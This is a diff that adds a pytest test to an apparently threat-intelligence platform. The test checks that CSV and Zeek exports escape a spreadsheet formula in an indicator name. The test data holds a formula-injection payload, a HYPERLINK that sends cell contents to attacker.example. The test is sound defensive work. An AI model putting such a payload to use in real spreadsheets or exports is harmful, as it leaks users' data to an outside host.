@@ -157,3 +157,16 @@ def test_a_misp_export_too_large_for_one_event_is_refused_with_the_alternative(c
     )
     with pytest.raises(ValidationFailed, match="STIX bundle"):
         exporting.export_open(actor=community.creator, collection=community.collection, fmt="misp")
+
+
+def test_a_formula_in_an_indicator_name_reaches_csv_and_zeek_as_text(community):
+    name = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
+    intel.objects_add(
+        actor=community.creator,
+        collection=community.collection,
+        objects=[indicator("formula.example", tlp=Tlp.GREEN, name=name)],
+    )
+    rows = list(csv.DictReader(io.StringIO(_text(community.creator, community.collection, "csv"))))
+    assert [row["name"] for row in rows] == ["'" + name]
+    zeek = _text(community.creator, community.collection, "zeek").splitlines()
+    assert zeek[1].split("\t")[3].startswith("'=HYPERLINK(")
